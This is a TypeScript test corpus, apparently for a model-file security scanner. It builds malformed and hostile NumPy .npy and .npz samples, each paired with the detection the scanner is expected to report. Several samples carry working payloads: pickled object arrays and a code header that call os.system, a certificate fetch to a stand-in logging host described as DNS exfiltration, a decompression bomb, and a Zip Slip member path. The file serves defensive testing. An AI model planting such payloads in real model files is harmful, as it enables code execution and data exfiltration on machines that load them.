/**
 * NumPy corpus (numpy/lib/format.py, NEP 1; numpy/lib/npyio.py for .npz): headers cut at every
 * field, headers that are Python expressions rather than literals, hostile shapes and dtypes,
 * truncated data, object arrays whose payload is a pickle, and .npz archives with a
 * decompression bomb or a second array of the same name.
 */
import { concat, f32, latin1, u16 } from '../builders/bytes.ts';
import { deflateFixed, deflateZeroBomb } from '../builders/deflate.ts';
import { npy } from '../builders/numpy.ts';
import { asm, systemCall } from '../builders/pickle.ts';
import { buildZip } from '../builders/zip.ts';
import type { CorpusEntry, NoticeExpectation } from '../types.ts';

const NPY = 'weights.npy';
const NPZ = 'arrays.npz';
const critical = (key: string): NoticeExpectation => ({ kind: 'unsafe-pickle-global', key, severity: 'critical' });

const valid = (): Uint8Array => npy({ descr: '<f4', shape: '(2,)', data: f32(1, 2) });
/** Where the data starts (the builder pads the header so the data is 64-byte aligned). */
const DATA_START = valid().length - 8;

/** An object array: the .npy header with descr '|O' and a pickle as the data. */
const objectArray = (pickle: Uint8Array): Uint8Array => npy({ descr: '|O', shape: '(1,)', data: pickle });

/** A protocol-2 pickle of a one-element object ndarray whose element is `payload` (as np.save writes object arrays). */
function objectPickle(payload: Uint8Array): Uint8Array {
  return asm()
    .proto(2)
    .global('numpy.core.multiarray', '_reconstruct')
    .global('numpy', 'ndarray')
    .int(0)
    .tuple(1)
    .raw('C', 1, 'b')
    .tuple(3)
    .reduce()
    .mark()
    .int(1)
    .int(1)
    .tuple(1)
    .global('numpy', 'dtype')
    .str('O8')
    .raw(0x89, 0x88)
    .tuple(3)
    .reduce()
    .raw(0x89)
    .emptyList()
    .raw(payload)
    .append()
    .tupleMark()
    .build()
    .stop()
    .bytesOut();
}

export const NUMPY_ENTRIES: readonly CorpusEntry[] = [
  // ── .npy: the fixed prefix ("\x93NUMPY", major, minor, header length) ─────────
  {
    id: 'numpy/truncated-inside-magic',
    format: 'numpy',
    name: NPY,
    build: () => valid().subarray(0, 4),
    expect: { code: 'unknown_format', offset: 0 },
    source: 'spec rule: numpy/lib/format.py — 4 bytes cannot be identified as .npy (the magic is 6)',
  },
  {
    id: 'numpy/truncated-inside-version',
    format: 'numpy',
    name: NPY,
    build: () => valid().subarray(0, 7),
    expect: { code: 'truncated', offset: 6 },
    source: 'spec rule: numpy/lib/format.py read_magic — the magic is followed by a major and a minor version byte',
  },
  {
    id: 'numpy/truncated-inside-header-length',
    format: 'numpy',
    name: NPY,
    build: () => valid().subarray(0, 9),
    expect: { code: 'truncated', offset: 8 },
    source: 'spec rule: numpy/lib/format.py — version 1.0 has a 2-byte little-endian header length',
  },
  {
    id: 'numpy/truncated-inside-header',
    format: 'numpy',
    name: NPY,
    build: () => valid().subarray(0, 40),
    expect: { code: 'truncated', offset: 8 },
    source: 'spec rule: numpy/lib/format.py _read_array_header — HEADER_LEN bytes of dict literal follow',
  },
  {
    id: 'numpy/truncated-at-data-start',
    format: 'numpy',
    name: NPY,
    build: () => valid().subarray(0, DATA_START),
    expect: { code: 'npy_truncated_data', offset: DATA_START },
    source: 'spec rule: numpy/lib/format.py read_array — numel × itemsize bytes of data follow the header',
  },
  {
    id: 'numpy/truncated-inside-data',
    format: 'numpy',
    name: NPY,
    build: () => valid().subarray(0, DATA_START + 5),
    expect: { code: 'npy_truncated_data', offset: DATA_START },
    source: 'spec rule: numpy/lib/format.py read_array — numel × itemsize bytes of data follow the header',
  },
  {
    id: 'numpy/version-4-0',
    format: 'numpy',
    name: NPY,
    build: () => npy({ version: [4, 0] }),
    expect: { code: 'npy_bad_version', offset: 6 },
    source: 'spec rule: numpy/lib/format.py — format versions 1.0, 2.0 and 3.0',
  },
  {
    id: 'numpy/header-length-4gib',
    format: 'numpy',
    name: NPY,
    build: () => npy({ version: 2, declaredLength: 0xffffffff }),
    expect: { code: 'npy_header_too_large', offset: 8 },
    source: 'spec rule: numpy/lib/format.py _MAX_HEADER_SIZE — a 4 GiB v2 header length (numpy refuses > 10,000 bytes unless told otherwise)',
  },
  // ── .npy: the header literal (numpy reads it with ast.literal_eval) ─────────
  {
    id: 'numpy/header-is-an-expression',
    format: 'numpy',
    name: NPY,
    build: () => npy({ dict: "{'descr': __import__('os').system('id'), 'fortran_order': False, 'shape': (2,), }" }),
    expect: { code: 'npy_header_syntax' },
    source: 'scanner bypass: a header that is Python code — safe only because numpy uses ast.literal_eval; a reader that evals it runs it (CWE-95)',
  },
  {
    id: 'numpy/header-not-a-dict',
    format: 'numpy',
    name: NPY,
    build: () => npy({ dict: "['<f4', False, (2,)]" }),
    expect: { code: 'npy_header_syntax' },
    source: 'spec rule: numpy/lib/format.py _read_array_header — "Header is not a dictionary"',
  },
  {
    id: 'numpy/header-duplicate-key',
    format: 'numpy',
    name: NPY,
    build: () => npy({ dict: "{'descr': '<f4', 'descr': '<f8', 'fortran_order': False, 'shape': (2,), }" }),
    expect: { code: 'npy_header_syntax' },
    source: 'scanner bypass: literal_eval keeps the last of two "descr" keys; a first-wins reader decodes the data as another dtype',
  },
  {
    id: 'numpy/header-extra-key',
    format: 'numpy',
    name: NPY,
    build: () => npy({ dict: "{'descr': '<f4', 'fortran_order': False, 'shape': (2,), 'allow_pickle': True, }" }),
    expect: { code: 'npy_header_keys' },
    source: 'spec rule: numpy/lib/format.py _read_array_header — exactly the keys descr, fortran_order, shape',
  },
  {
    id: 'numpy/header-deep-nesting',
    format: 'numpy',
    name: NPY,
    build: () => npy({ dict: `{'descr': ${'['.repeat(2000)}${']'.repeat(2000)}, 'fortran_order': False, 'shape': (2,), }` }),
    expect: { code: 'npy_header_syntax' },
    source: 'spec rule: limits.ts MAX_NPY_HEADER_DEPTH = 32 — ast.literal_eval recursion on deep nesting (CWE-674)',
  },
  {
    id: 'numpy/unknown-descr',
    format: 'numpy',
    name: NPY,
    build: () => npy({ descr: '<f3' }),
    expect: { code: 'npy_bad_descr', offset: 10 },
    source: 'spec rule: numpy dtype strings — there is no 3-byte float',
  },
  {
    id: 'numpy/negative-dimension',
    format: 'numpy',
    name: NPY,
    build: () => npy({ shape: '(-1,)' }),
    expect: { code: 'npy_bad_shape' },
    source: 'spec rule: numpy/lib/format.py — shape is a tuple of non-negative ints',
  },
  {
    id: 'numpy/too-many-dims',
    format: 'numpy',
    name: NPY,
    build: () => npy({ shape: `(${Array<string>(40).fill('1').join(', ')},)` }),
    expect: { code: 'npy_bad_shape' },
    source: 'spec rule: numpy NPY_MAXDIMS = 64 (32 before numpy 2); limits.ts MAX_TENSOR_DIMS = 16',
  },
  {
    id: 'numpy/shape-product-overflows',
    format: 'numpy',
    name: NPY,
    build: () => npy({ shape: '(4294967296, 4294967296)', data: f32(1, 2) }),
    expect: { code: 'npy_truncated_data', offset: DATA_START },
    source: 'scanner bypass: 2^64 elements — an unchecked numel × itemsize wraps to 0 bytes, so the 8 bytes present look like enough',
  },
  {
    id: 'numpy/big-endian',
    format: 'numpy',
    name: NPY,
    build: () => npy({ descr: '>f4', data: f32(1, 2) }),
    expect: { code: 'npy_big_endian', offset: 10 },
    source: 'spec rule: numpy dtype byte order ">" — the bytes are byte-swapped relative to a little-endian copy',
  },
  {
    id: 'numpy/lfs-pointer',
    format: 'numpy',
    name: NPY,
    build: () => latin1('version https://git-lfs.github.com/spec/v1\noid sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae\nsize 1048704\n'),
    expect: { code: 'git_lfs_pointer', offset: 0 },
    source: 'spec rule: Git LFS pointer file (git-lfs docs/spec.md) cloned without `git lfs pull`',
  },
  // ── object arrays: the data is a pickle (np.load(allow_pickle=True) runs it) ───
  {
    id: 'numpy/object-array-os-system',
    format: 'numpy',
    name: NPY,
    build: () => objectArray(objectPickle(systemCall('id', 'os').bytesOut())),
    expect: { code: 'npy_object_array', offset: DATA_START, notice: critical('os.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: an object array whose element is os.system(...) — np.load(allow_pickle=True) unpickles it; dtype-only checks see an ordinary .npy',
  },
  {
    id: 'numpy/object-array-ssl-dns',
    format: 'numpy',
    name: NPY,
    build: () => objectArray(asm().proto(4).stackGlobal('ssl', 'get_server_certificate').str('x.dns-logger.invalid').int(443).tuple(2).tuple(1).reduce().stop().bytesOut()),
    expect: { code: 'npy_object_array', offset: DATA_START, notice: critical('ssl.get_server_certificate'), verdict: 'malicious-code' },
    source: 'scanner bypass: picklescan tests/data2/dns_exfiltration.npy — a DNS lookup on load, no command at all',
  },
  {
    id: 'numpy/object-array-numpy-load',
    format: 'numpy',
    name: NPY,
    build: () => objectArray(asm().proto(2).global('numpy', 'load').mark().string0('/tmp/second.npy').raw(0x88).tupleMark().reduce().stop().bytesOut()),
    expect: { code: 'npy_object_array', offset: DATA_START, notice: critical('numpy.load'), verdict: 'malicious-code' },
    source: 'scanner bypass: numpy.load with object arrays — loading one array loads (and unpickles) another file',
  },
  {
    id: 'numpy/object-array-truncated-pickle',
    format: 'numpy',
    name: NPY,
    build: () => objectArray(objectPickle(systemCall('id').bytesOut()).subarray(0, 60)),
    expect: { code: 'npy_object_array', offset: DATA_START, notice: { kind: 'pickle-anomaly', key: 'scan-incomplete', severity: 'high' } },
    source: 'spec rule: pickletools — the object array\'s pickle ends before STOP; what it would import after that is unknown',
  },
  // ── .npz (a ZIP of .npy members) ─────────────────────────────────────────────
  {
    id: 'numpy/npz-member-truncated-data',
    format: 'numpy',
    name: NPZ,
    build: () => buildZip([{ name: 'w.npy', data: valid().subarray(0, DATA_START + 4) }]).bytes,
    expect: { code: 'npy_truncated_data' },
    source: 'spec rule: numpy/lib/format.py read_array — each member holds a whole .npy',
  },
  {
    id: 'numpy/npz-member-bad-magic',
    format: 'numpy',
    name: NPZ,
    build: () => buildZip([{ name: 'w.npy', data: concat(latin1('NOTNPY'), u16(1), new Uint8Array(16)) }]).bytes,
    expect: { code: 'npy_bad_magic' },
    source: 'spec rule: numpy/lib/format.py read_magic — every .npy member starts with "\\x93NUMPY"',
  },
  {
    id: 'numpy/npz-compressed-member',
    format: 'numpy',
    name: NPZ,
    build: () => buildZip([{ name: 'w.npy', data: valid(), method: 8 }]).bytes,
    expect: { code: 'npy_member_compressed' },
    source: 'spec rule: numpy/lib/npyio.py savez_compressed — deflated members can be hashed, not streamed in place',
  },
  {
    id: 'numpy/npz-decompression-bomb',
    format: 'numpy',
    name: NPZ,
    // A deflated object-array member (read whole to scan its pickle): its .npy header, then ~62 MB of
    // zeros from 60 KB — declared as 300 bytes.
    build: () => {
      const header = objectArray(new Uint8Array(0));
      return buildZip([{ name: 'obj.npy', data: header, method: 8, compressed: concat(deflateFixed(header, false), deflateZeroBomb(240_000)), declaredSize: 300 }]).bytes;
    },
    expect: { code: 'zip_member_too_large', alsoCodes: ['npy_object_array'] },
    source: 'spec rule: CWE-409 decompression bomb — an .npz member inflating far past its declared size must stop at the declaration',
  },
  {
    id: 'numpy/npz-object-member-payload',
    format: 'numpy',
    name: NPZ,
    build: () => buildZip([{ name: 'npz_payload_w.npy', data: valid() }, { name: 'meta.npy', data: objectArray(objectPickle(systemCall('id').bytesOut())) }]).bytes,
    expect: { code: 'npy_object_array', notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: an .npz whose second member is an object array — scanners that check only the first array, or only dtypes, miss it',
  },
  {
    id: 'numpy/npz-duplicate-member-last-wins',
    format: 'numpy',
    name: NPZ,
    build: () => buildZip([{ name: 'npz_dup_w.npy', data: valid() }, { name: 'npz_dup_w.npy', data: objectArray(objectPickle(systemCall('id').bytesOut())) }]).bytes,
    expect: { code: 'npy_object_array', notice: critical('posix.system'), verdict: 'malicious-code' },
    source: 'scanner bypass: two members of one name — np.load (zipfile) returns the last, a first-wins reader checks the benign one',
  },
  {
    id: 'numpy/npz-local-header-offset-past-eof',
    format: 'numpy',
    name: NPZ,
    build: () => {
      const z = buildZip([{ name: 'npz_far.npy', data: valid() }]);
      const out = z.bytes.slice();
      new DataView(out.buffer).setUint32(z.directoryOffset + 42, 0x00e10000, true);
      return out;
    },
    expect: { code: 'zip_bad_local_header', offset: 30 + 11 + 136 },
    source: 'fuzz find',
    note: 'The problem carried the stated local header offset (14.7 MB into a 300-byte file); it now points at the member\'s central directory record.',
  },
  {
    id: 'numpy/npz-path-traversal',
    format: 'numpy',
    name: NPZ,
    build: () => buildZip([{ name: '../../../tmp/npz_slip.npy', data: valid() }]).bytes,
    expect: { notice: { kind: 'zip-anomaly', key: 'unsafe-path', severity: 'high' }, verdict: 'inconclusive' },
    source: 'scanner bypass: Zip Slip (CVE-2018-1002200 class) — an .npz member name climbing out of the extraction folder',
  },
];
